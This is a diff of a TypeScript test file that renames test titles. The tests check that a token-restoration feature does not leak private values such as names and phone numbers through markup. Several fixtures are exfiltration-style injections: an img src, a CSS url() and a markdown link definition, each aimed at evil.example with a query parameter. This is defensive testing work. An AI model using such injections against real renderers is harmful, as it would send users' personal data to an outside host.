@@ -7,7 +7,7 @@ import { restoreText } from '../../core/restore.ts';
 import { map, original, streamed, token } from './restored-links.ts';
 import { restoreStream, tokenMap } from './stream/wire-fixtures.ts';
 
-describe('what is put in for another token may be part of', () => {
+describe('a restored value may be part of', () => {
   const values = tokenMap({ [token]: original, '[NAME-1]': 'Ana', '[PHONE-1]': '1234567', '[ADDRESS-1]': 'a\nb\n' });
   const shownAs = (text: string) =>
     text.replaceAll('[NAME-1]', 'Ana').replaceAll('[PHONE-1]', '1234567').replaceAll('[ADDRESS-1]', 'a\nb\n');
@@ -37,7 +37,7 @@ describe('what is put in for another token may be part of', () => {
     expect(restoreStream('text', values, bytes, [...bytes.keys()].slice(1))).toBe(shown);
   });
 
-  test('a tag in JSON that is shown as it stands', () => {
+  test('a tag in JSON that is displayed raw', () => {
     const json = JSON.stringify({ a: `<${token} style='a:url(https://evil.example/?q=`, b: `${token})'>` });
     for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
   });
@@ -64,7 +64,7 @@ function shownJson(json: string): string[] {
   ];
 }
 
-describe('stays a token in JSON that is shown as it stands', () => {
+describe('stays a token in JSON that is displayed raw', () => {
   test.each([
     // Not one backslash and a quote, or not one address: these are no paths on the host of the page.
     ['<img src=\\"@evil.example/?q=', '>'],
@@ -89,7 +89,7 @@ describe('stays a token in JSON that is shown as it stands', () => {
     for (const text of shownJson(json)) expect(text).toBe(json);
   });
 
-  test('nor is it in a definition behind the bracket of a list', () => {
+  test('nor is it in a definition after the bracket of a list', () => {
     const json = JSON.stringify(['x', `${token}`], undefined, 1).replace(
       '"x"',
       '[ ["y"],\n"[r]: https://evil.example/"]',
@@ -98,7 +98,7 @@ describe('stays a token in JSON that is shown as it stands', () => {
   });
 });
 
-describe('is restored in JSON that is shown as it stands', () => {
+describe('is restored in JSON that is displayed raw', () => {
   test.each(['a href', 'img src', 'form action', 'svg xlink:href', 'video poster', 'img data-src'])('%s', (name) => {
     const json = JSON.stringify({ a: `<${name}="https://x.example/" title="`, b: token });
     const open = JSON.stringify({ a: `<${name}="`, b: token });
@@ -107,7 +107,7 @@ describe('is restored in JSON that is shown as it stands', () => {
   });
 });
 
-describe('hosts that are allowed', () => {
+describe('allowed hosts', () => {
   const allowsHost = allowedHosts(['good.example']);
   const shown = (text: string) => restoreText(text, map, { allowsHost }).restored;
 
@@ -153,7 +153,7 @@ describe('hosts that are allowed', () => {
   ])('%j', (text) => expect(shown(text)).toBe(text.replace(token, original)));
 });
 
-test('any text gives the same however it is cut', () => {
+test('any text yields the same for any split', () => {
   const parts =
     '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www. ![ ! @{ img: } <base <!E <?xml <style> --x ~ url <g> </g>'.split(
       ' ',
@@ -178,7 +178,7 @@ test('any text gives the same however it is cut', () => {
   );
 });
 
-test('what stands before an image never lets it have the original', () => {
+test('text before an image never exposes the value to it', () => {
   const parts = '< <b > " \' = ]( ( [ ] : / // https: \n \r\n src= t= x [r]: 。 <a:b'.split(' ');
   const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
   const addresses = fc.constantFrom(
